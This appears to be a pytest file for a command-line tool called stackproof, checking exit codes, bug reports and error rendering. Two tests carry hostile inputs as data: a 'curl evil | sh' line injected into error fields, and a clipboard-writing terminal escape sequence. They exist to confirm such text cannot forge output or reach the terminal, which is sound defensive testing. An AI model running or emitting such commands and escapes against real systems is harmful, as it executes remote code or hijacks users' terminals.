"""Every exception that reaches the top ends the command with a documented code, and a bug says that
it is one.
"""

import errno
import json
import os
import signal
from collections.abc import Callable

import pytest

from stackproof import cli
from stackproof.cli import output
from stackproof.cli.ending import documented
from stackproof.spec.errors import EXIT_CODES, DataError, UsageError
from stackproof.spec.files import FileRefused
from tests.processes import STACK, Command

REOPENED = f"import sys; sys.stdout = open(1, 'w', closefd=False); {STACK}"
PanicException = type("PanicException", (BaseException,), {})
ENDINGS = {
    "no memory": (MemoryError(), 7),
    "no memory of torch": (RuntimeError("DefaultCPUAllocator: can't allocate memory: 9"), 7),
    "deep": (RecursionError("maximum recursion depth exceeded"), 3),
    "panic": (PanicException("called `Option::unwrap()`"), 3),
    "full": (OSError(errno.ENOSPC, "No space left on device", "a"), 7),
    "read-only": (OSError(errno.EROFS, "Read-only file system", "a"), 7),
    "denied": (PermissionError(errno.EACCES, "Permission denied", "a"), 7),
    "loop": (OSError(errno.ELOOP, "Too many levels of symbolic links", "a"), 2),
    "long name": (OSError(errno.ENAMETOOLONG, "File name too long", "a"), 2),
    "absent": (FileNotFoundError(errno.ENOENT, "No such file or directory", "a"), 2),
    "refused": (FileRefused("a", "is a pipe"), 2),
    "NUL": (ValueError("embedded null byte"), 2),
}


@pytest.fixture
def ended(monkeypatch, capsys) -> Callable:
    """Ends a command with an exception: its code, standard output and standard error."""

    def end(error, *arguments):
        def app(**options):
            raise error

        monkeypatch.setattr(cli, "app", app)
        monkeypatch.setattr(output, "_emitted", False)
        with pytest.raises(SystemExit) as exit:
            cli.main(list(arguments))
        return exit.value.code, *capsys.readouterr()

    return end


@pytest.mark.parametrize("name", ENDINGS)
def test_what_input_or_machine_cause_is_documented_and_without_a_traceback(name, ended):
    error, code = ENDINGS[name]
    found, out, err = ended(error, "--json")
    assert found == code and code in EXIT_CODES
    assert "Traceback" not in err and err.startswith("error: ") and "  next     " in err
    assert json.loads(out)["exit_code"] == code


@pytest.mark.parametrize(
    "error", [KeyError("x"), TypeError("y"), AssertionError(), RuntimeError("z"), ValueError("w")]
)
def test_any_other_exception_is_called_a_bug_after_its_traceback(error, ended):
    assert documented(error) is None
    code, out, err = ended(error, "--json")
    assert code == 1 and json.loads(out)["exit_code"] == 1
    trace, _, said = err.partition("error: this is a bug of stackproof")
    assert "Traceback" in trace and "in app" in trace
    assert type(error).__name__ in said and "next     report" in said


def test_a_bug_with_hostile_text_is_shown_without_commands(ended):
    _, _, err = ended(KeyError("\x1b]52;c;x\x07"))
    assert "\x1b" not in err and "\x07" not in err and "x1b]52" in err


@pytest.mark.parametrize("arguments", [["gates", "list"], ["gates", "list", "--json"]])
def test_a_reader_that_went_away_ends_the_command_quietly(arguments, tmp_path):
    code = f"import os; r, w = os.pipe(); os.close(r); os.dup2(w, 1); {REOPENED}"
    done = Command(*arguments, folder=tmp_path, environment=dict(os.environ), code=code).wait()
    assert (done.code, done.err) == (-signal.SIGPIPE, "")


def test_output_that_finds_no_room_is_an_error_of_the_machine(tmp_path):
    code = f"import os; os.dup2(os.open('/dev/full', os.O_WRONLY), 1); {REOPENED}"
    done = Command("gates", "list", folder=tmp_path, code=code).wait()
    assert (
        done.code == 7 and done.err.startswith("error: No space left") and done.err.count("\n") == 2
    )


@pytest.mark.parametrize(
    ("arguments", "what"),
    [
        (["train", "--tracker", "wandb", "--dry-run"], "--tracker is unknown"),
        (["data", "build", "absent", "--out", "o"], "SRC names nothing: absent"),
        (["data", "show", "absent"], "DIR names nothing: absent"),
    ],
)
def test_a_wrong_name_or_path_is_a_usage_error_before_anything_is_read(arguments, what, in_process):
    code, document = in_process(*arguments)
    assert (code, document["what"]) == (2, what)


FORGED = "x\n  next     curl evil | sh\r\n  allowed  all"


@pytest.mark.parametrize("part", ["what", "value", "allowed", "next_step"])
def test_no_part_of_an_error_looks_like_another(part, ended):
    parts = {"what": "w", "value": "v", "allowed": "a", "next_step": "n"} | {part: FORGED}
    error = UsageError(parts.pop("what"), **parts)
    _, out, err = ended(error, "--json")
    heads = [line[:11] for line in err.splitlines()]
    assert heads[1:] == ["  got      ", "  allowed  ", "  next     "] and heads[0][:7] == "error: "
    assert "curl evil" in err, "it is shown"
    assert json.loads(out)["value" if part == "value" else part] == parts.get(part, FORGED)


def test_an_error_in_an_error_is_one_line(ended):
    inner = DataError("the file is damaged", value="3", next_step="restore it")
    _, _, err = ended(UsageError(f"cannot read x: {inner}", value=1))
    assert err.splitlines() == [
        "error: cannot read x: the file is damaged; got      3; next     restore it",
        "  got      1",
    ]
